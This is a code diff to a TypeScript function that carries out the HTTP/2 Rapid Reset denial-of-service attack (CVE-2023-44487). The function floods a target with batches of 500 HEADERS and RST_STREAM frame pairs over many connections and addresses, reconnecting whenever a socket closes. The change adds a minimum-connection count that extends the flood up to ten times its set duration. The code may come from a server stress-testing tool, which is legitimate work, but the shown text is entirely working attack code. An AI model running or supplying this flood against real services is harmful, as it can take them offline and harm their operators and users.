@@ -129,15 +129,29 @@ interface Reset extends Target {
   readonly connections: number;
   readonly addresses: number;
   readonly durationMs: number;
+  /** Connections that it opens at least, even if that takes longer. */
+  readonly leastOpened: number;
 }
 
 /** HEADERS and RST_STREAM in pairs, as fast as the service takes them (CVE-2023-44487), over new connections when it closes one. */
-export async function resetRapidly({ path, coding, connections, addresses, durationMs, httpsPort }: Reset) {
-  const endMs = performance.now() + durationMs;
+export async function resetRapidly({
+  path,
+  coding,
+  connections,
+  addresses,
+  leastOpened,
+  durationMs,
+  httpsPort,
+}: Reset) {
+  const startMs = performance.now();
   let pairs = 0;
   let opened = 0;
+  const isOver = (): boolean => {
+    const elapsedMs = performance.now() - startMs;
+    return elapsedMs > (opened < leastOpened ? 10 * durationMs : durationMs);
+  };
   const run = async (at: number): Promise<void> => {
-    while (performance.now() < endMs) {
+    while (!isOver()) {
       const socket = await openHttp2(httpsPort, addressOf(at % addresses), settingsFrame());
       if (socket === null) {
         await delay(20);
@@ -146,7 +160,7 @@ export async function resetRapidly({ path, coding, connections, addresses, durat
       opened += 1;
       socket.resume();
       let stream = 1;
-      while (!socket.destroyed && socket.writable && performance.now() < endMs) {
+      while (!socket.destroyed && socket.writable && !isOver()) {
         const frames: Buffer[] = [];
         for (let each = 0; each < 500; each += 1, stream += 2)
           frames.push(requestFrame(stream, path, stream === 1, coding), resetFrame(stream));
